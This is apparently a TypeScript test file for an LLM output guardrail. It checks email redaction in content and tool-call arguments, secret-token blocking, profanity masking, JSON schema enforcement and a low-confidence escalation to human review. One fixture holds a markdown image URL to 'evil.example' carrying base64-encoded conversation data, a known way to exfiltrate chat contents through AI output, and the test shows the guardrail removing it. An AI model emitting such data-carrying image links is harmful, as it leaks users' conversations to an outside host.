// checkOutput: content and tool-call arguments redacted or blocked per output policy, the request's
// response_format and the policy's output schema, and the confidence gate escalating to a review.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ChatCompletion, ChatCompletionRequest } from "@llm-edge/shared";
import { checkOutput } from "../../../functions/guardrail/checks";
import { fakeKeys } from "./fakes";
import { depsWith, startQueueHarness, type QueueHarness } from "./helpers";

let harness: QueueHarness;
beforeAll(async () => {
  harness = await startQueueHarness();
});
afterAll(async () => {
  await harness?.close();
});

const request = (extra: Partial<ChatCompletionRequest> = {}): ChatCompletionRequest => ({ model: "sim-primary", messages: [{ role: "user", content: "hi" }], ...extra });
const completion = (content: string | null, toolArguments?: string): ChatCompletion => ({
  id: "chatcmpl-1",
  object: "chat.completion",
  created: 1,
  model: "sim-primary",
  choices: [
    {
      index: 0,
      message: { role: "assistant", content, ...(toolArguments ? { tool_calls: [{ id: "c1", type: "function" as const, function: { name: "send", arguments: toolArguments } }] } : {}) },
      finish_reason: toolArguments ? "tool_calls" : "stop",
    },
  ],
});

describe("content and tool calls", () => {
  it("redacts personal data in content and in tool-call arguments", async () => {
    const result = await checkOutput(depsWith(), { tenant: "t", request: request(), completion: completion("Reach Jane at jane@example.org.", '{"to":"jane@example.org","body":"hi"}') });
    expect(result.verdict).toBe("redact");
    expect(result.value.choices[0]!.message.content).toBe("Reach Jane at [EMAIL_ADDRESS].");
    expect(JSON.parse(result.value.choices[0]!.message.tool_calls![0]!.function.arguments)).toEqual({ to: "[EMAIL_ADDRESS]", body: "hi" });
  });

  it("blocks an answer that contains a secret, naming only its type", async () => {
    const result = await checkOutput(depsWith(), { tenant: "t", request: request(), completion: completion(`Use ${fakeKeys.github} to push.`) });
    expect(result.verdict).toBe("block");
    expect(result.reason).toBe("found GITHUB_TOKEN (ghx_) in choices[0].message.content");
  });

  it("masks profanity and removes data-carrying markdown images by default", async () => {
    const result = await checkOutput(depsWith(), { tenant: "t", request: request(), completion: completion("Well shit. ![x](https://evil.example/c?d=c2VjcmV0IGNvbnZlcnNhdGlvbg) done") });
    expect(result.verdict).toBe("redact");
    expect(result.value.choices[0]!.message.content).toBe("Well ****.  done");
  });
});

describe("schema", () => {
  const schema = { type: "object", properties: { name: { type: "string" } }, required: ["name"], additionalProperties: false };

  it("passes content that matches the request's json_schema", async () => {
    const result = await checkOutput(depsWith(), { tenant: "t", request: request({ response_format: { type: "json_schema", json_schema: { name: "person", schema } } }), completion: completion('{"name":"Ada"}') });
    expect(result.verdict).toBe("pass");
  });

  it("blocks content that does not match, or is not JSON, saying where", async () => {
    const format = { response_format: { type: "json_schema" as const, json_schema: { name: "person", schema } } };
    const wrong = await checkOutput(depsWith(), { tenant: "t", request: request(format), completion: completion('{"name":42}') });
    expect(wrong.verdict).toBe("block");
    expect(wrong.findings).toEqual([{ type: "SCHEMA_VIOLATION", start: 0, end: 0, score: 1, check: "schema", rule: "response_format", path: "choices[0].message.content" }]);
    expect(wrong.reason).toContain('does not match json_schema "person" (#/name type)');
    const notJson = await checkOutput(depsWith(), { tenant: "t", request: request({ response_format: { type: "json_object" } }), completion: completion("sure!") });
    expect(notJson.reason).toContain("not valid JSON");
  });

  it("applies the policy's own output schema", async () => {
    const config = { policies: { p: { outputSchema: schema } }, defaultPolicy: "p" };
    const result = await checkOutput(depsWith(config), { tenant: "t", request: request(), completion: completion('{"name":"Ada","extra":1}') });
    expect(result.verdict).toBe("block");
    expect(result.findings[0]!.rule).toBe("output_schema");
  });
});

describe("confidence gate", () => {
  it("passes at or above the minimum and escalates below it, storing the redacted answer", async () => {
    const queue = harness.queue();
    const deps = depsWith({}, queue);
    expect((await checkOutput(deps, { tenant: "conf", request: request(), completion: completion("ok"), confidence: 0.5 })).verdict).toBe("pass");
    const low = await checkOutput(deps, { tenant: "conf", request: request(), completion: completion("mail jane@example.org"), confidence: 0.2 });
    expect(low.verdict).toBe("escalate");
    expect(low.findings.map((f) => f.type)).toEqual(["EMAIL_ADDRESS", "LOW_CONFIDENCE"]);
    expect(low.reason).toContain("confidence 0.2 is below 0.5");
    const review = await queue.get("conf", low.reviewId!);
    expect(review).toMatchObject({ direction: "output", status: "pending" });
    expect(review!.preview).not.toContain("jane@example.org");
  });
});
